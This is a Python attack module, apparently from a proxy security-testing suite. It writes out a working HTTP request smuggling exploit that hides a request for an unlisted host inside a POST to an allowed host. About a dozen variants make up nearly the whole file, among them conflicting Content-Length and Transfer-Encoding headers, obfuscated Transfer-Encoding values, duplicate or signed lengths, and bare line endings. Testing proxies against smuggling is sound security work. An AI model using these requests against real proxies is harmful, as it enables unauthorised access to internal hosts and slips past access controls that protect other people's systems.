"""
Hides a request for another name in one for the listed host, where proxy and host may differ in
where a request ends.
"""

from functools import partial

from support.attempts import attempt
from support.proxied import reach_by_proxy, token_in


def attack(target):
    reach_by_proxy(target)
    port = target["listed_port"]
    listed, other = f"{target['listed_name']}:{port}", f"{target['unlisted_name']}:{port}"
    hidden = f"GET / HTTP/1.1\r\nHost: {other}\r\n\r\n"
    chunked = f"0\r\n\r\n{hidden}"
    length = f"Content-Length: {len(chunked)}\r\n"

    def request(headers, body, version="1.1", line_end="\r\n"):
        text = f"POST http://{listed}/ HTTP/{version}\r\nHost: {listed}\r\n{headers}\r\n"
        return text.replace("\r\n", line_end) + body

    coding = "Transfer-Encoding"
    values = ("identity", "xchunked", "chunked, identity", "gzip, chunked", "\x0bchunked")
    requests = {
        "a length beside chunks": request(f"{length}{coding}: chunked\r\n", chunked),
        "chunks beside a length": request(f"{coding}: chunked\r\n{length}", chunked),
        "chunks in HTTP/1.0": request(f"{length}{coding}: chunked\r\n", chunked, "1.0"),
        "chunks in HTTP/2.0": request(f"{length}{coding}: chunked\r\n", chunked, "2.0"),
        **{
            f"{coding} {value!r}": request(f"{length}{coding}: {value}\r\n", chunked)
            for value in values
        },
        "a space before the colon": request(f"{length}{coding} : chunked\r\n", chunked),
        "a header in a header": request(f"{length}X: y\n{coding}: chunked\r\n", chunked),
        "two lengths": request(f"Content-Length: 0\r\n{length}", hidden),
        "a list of lengths": request(f"Content-Length: 0, {len(hidden)}\r\n", hidden),
        "a signed length": request("Content-Length: +0\r\n", hidden),
        "bare ends of lines": request("Content-Length: 0\r\n", hidden, line_end="\n"),
        "a second request": request("Content-Length: 0\r\n", hidden),
    }
    return attempt(
        {name: partial(token_in, target, text.encode("latin1")) for name, text in requests.items()}
    )
